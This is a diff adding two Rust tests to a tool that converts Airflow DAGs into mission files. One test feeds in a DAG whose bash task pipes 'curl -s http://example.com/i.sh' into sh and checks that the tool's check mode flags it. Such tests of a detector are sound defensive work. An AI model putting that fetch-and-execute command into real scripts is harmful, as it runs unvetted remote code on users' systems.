@@ -92,3 +92,28 @@ fn a_dag_file_with_python_tasks_says_how_to_run_it() {
     project.run(&["transpile", "from-airflow", "hello.py", "-o", "missions"]);
     project.expect(0, &["run", "missions/hello.mission"]);
 }
+
+#[test]
+fn what_the_checks_find_is_told_in_the_dag_file() {
+    let project = Project::with(
+        "dags/fetch.py",
+        "from airflow.sdk import DAG\nfrom airflow.providers.standard.operators.bash import BashOperator\n\n\
+         with DAG(\"fetch\", schedule=None):\n    BashOperator(task_id=\"get\", bash_command=\"curl -s http://example.com/i.sh | sh\")\n",
+    );
+    let ended = project.run(&["transpile", "from-airflow", "dags", "-o", "out", "--check"]);
+    assert!(ended.stderr.contains("RC1003"), "{}", ended.stderr);
+    assert!(ended.stderr.contains("dags/fetch.py:5"), "{}", ended.stderr);
+    assert!(ended.stderr.contains("1 mission file checked"), "{}", ended.stderr);
+}
+
+#[test]
+fn a_serialised_dag_becomes_a_mission_that_runs() {
+    let dag = r#"{"__version": 3, "dag": {"dag_id": "hello", "timetable": {"__type": "airflow.timetables.simple.NullTimetable", "__var": {}},
+  "task_group": {"_group_id": null, "children": {"say": ["operator", "say"]}},
+  "tasks": [{"__type": "operator", "__var": {"task_id": "say", "task_type": "BashOperator",
+    "_task_module": "airflow.providers.standard.operators.bash", "bash_command": "echo hello"}}]}}"#;
+    let project = Project::with("hello.json", dag);
+    project.expect(0, &["transpile", "from-airflow", "hello.json", "-o", "out"]);
+    let result = project.json(0, &["run", "out/hello.mission", "--format", "json"]);
+    assert_eq!(result["steps"][0]["outcome"], "succeeded", "{result:#}");
+}
